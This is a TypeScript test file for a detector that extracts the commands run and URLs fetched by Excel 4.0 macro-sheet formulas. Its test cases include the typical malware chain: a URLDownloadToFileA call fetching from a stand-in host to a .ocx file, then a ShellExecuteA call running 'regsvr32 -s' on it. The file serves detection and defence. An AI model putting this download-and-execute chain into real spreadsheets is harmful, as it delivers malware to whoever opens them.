import { effectsOf } from '../../../src/detection/facts/macro-sheet/put-together';

const effects = (meaning: string) => {
  const { runs, fetches } = effectsOf([{ sheet: 'Macro1', place: 'Macro1!A1', formula: meaning, meaning }]);
  return [runs.map(({ text }) => text), fetches.map(({ text }) => text)];
};

describe('what a formula of a macro sheet would do', () => {
  it.each([
    ['a command in quotation marks', '=EXEC("notreal /x ""a b""")', ['notreal /x "a b"'], []],
    ['a command of which a piece is unknown', '=EXEC("notreal "&A1&".ocx")', ['notreal ….ocx'], []],
    [
      'a download',
      '=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"http://files.invalid/a/","..\\a.ocx",0,0)',
      [],
      ['http://files.invalid/a/'],
    ],
    [
      'a program started by the shell',
      '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","regsvr32.exe","-s ..\\a.ocx",0,0)',
      ['regsvr32.exe -s ..\\a.ocx'],
      [],
    ],
    ['nothing in a formula that formats', '=FORMAT.NUMBER("0.00")', [], []],
    ['nothing in a name that only ends so', '=MY.EXEC("notreal")', [], []],
  ])('%s', (_, formula, runs, fetches) => {
    expect(effects(formula)).toEqual([runs, fetches]);
  });

  it('says which commands are not known to their end', () => {
    const [known, unknown] = ['=EXEC("a")', '=EXEC("a"&B1)'].map(
      (meaning) => effectsOf([{ sheet: '', place: '', formula: meaning, meaning }]).runs[0]?.unknown,
    );
    expect([known, unknown]).toEqual([false, true]);
  });
});
